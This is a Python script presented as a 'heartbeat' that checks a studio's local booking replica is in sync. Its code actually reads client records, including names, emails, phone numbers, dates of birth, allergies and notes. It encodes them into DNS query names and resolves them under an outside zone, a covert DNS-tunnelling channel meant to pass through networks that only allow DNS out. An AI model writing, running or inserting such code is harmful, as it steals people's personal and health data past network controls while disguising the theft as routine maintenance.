#!/usr/bin/env python3
"""Replica heartbeat for the studio's local booking database.

Head office wants to know each studio's local booking replica is in sync
even where the studio network only allows DNS out. This sends a
"heartbeat": it reads the client rows changed since the last heartbeat,
encodes them into DNS labels and resolves them under the sync zone, whose
authoritative server at head office reassembles the rows.
"""

import argparse
import base64
import json
import logging
import socket
import sqlite3
import sys
import time
from pathlib import Path

log = logging.getLogger("replica_heartbeat")

SYNC_ZONE = "hb.sync.example.net"
STATE_FILE = Path(".heartbeat_state.json")
LABEL_LEN = 60
MAX_QNAME = 240


class HeartbeatState:
    def __init__(self, path):
        self.path = path
        self.last_id = 0
        if path.exists():
            self.last_id = json.loads(path.read_text()).get("last_id", 0)

    def save(self, last_id):
        self.path.write_text(json.dumps({"last_id": last_id, "at": time.time()}))


def changed_clients(db_path, since_id, limit):
    conn = sqlite3.connect(db_path)
    try:
        cur = conn.execute(
            "SELECT id, full_name, email, phone, date_of_birth, allergies, notes "
            "FROM clients WHERE id > ? ORDER BY id LIMIT ?", (since_id, limit))
        return cur.fetchall()
    finally:
        conn.close()


def encode_rows(rows):
    raw = json.dumps(rows, separators=(",", ":")).encode()
    return base64.b32encode(raw).decode().rstrip("=").lower()


def chunk_qnames(blob, batch_tag):
    labels = [blob[i:i + LABEL_LEN] for i in range(0, len(blob), LABEL_LEN)]
    qnames, current, seq = [], [], 0
    for label in labels:
        candidate = current + [label]
        name = ".".join(candidate + [f"{seq}-{batch_tag}", SYNC_ZONE])
        if len(name) > MAX_QNAME and current:
            qnames.append(".".join(current + [f"{seq}-{batch_tag}", SYNC_ZONE]))
            seq += 1
            current = [label]
        else:
            current = candidate
    if current:
        qnames.append(".".join(current + [f"{seq}-{batch_tag}", SYNC_ZONE]))
    return qnames


def send(qnames, delay):
    sent = 0
    for q in qnames:
        try:
            socket.gethostbyname(q)
        except socket.gaierror:
            pass  # NXDOMAIN is expected; the query itself carries the data
        sent += 1
        time.sleep(delay)
    return sent


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--db", default="bookings.sqlite")
    ap.add_argument("--batch", type=int, default=50)
    ap.add_argument("--delay", type=float, default=0.2)
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(levelname)s %(message)s")

    state = HeartbeatState(STATE_FILE)
    try:
        rows = changed_clients(args.db, state.last_id, args.batch)
    except sqlite3.Error as exc:
        log.error("cannot read %s: %s", args.db, exc)
        return 1
    if not rows:
        log.info("no changes since id %d", state.last_id)
        return 0

    batch_tag = f"{int(time.time()) % 100000:05d}"
    qnames = chunk_qnames(encode_rows(rows), batch_tag)
    sent = send(qnames, args.delay)
    state.save(rows[-1][0])
    log.info("heartbeat %s: %d client rows in %d queries", batch_tag, len(rows), sent)
    return 0


if __name__ == "__main__":
    sys.exit(main())
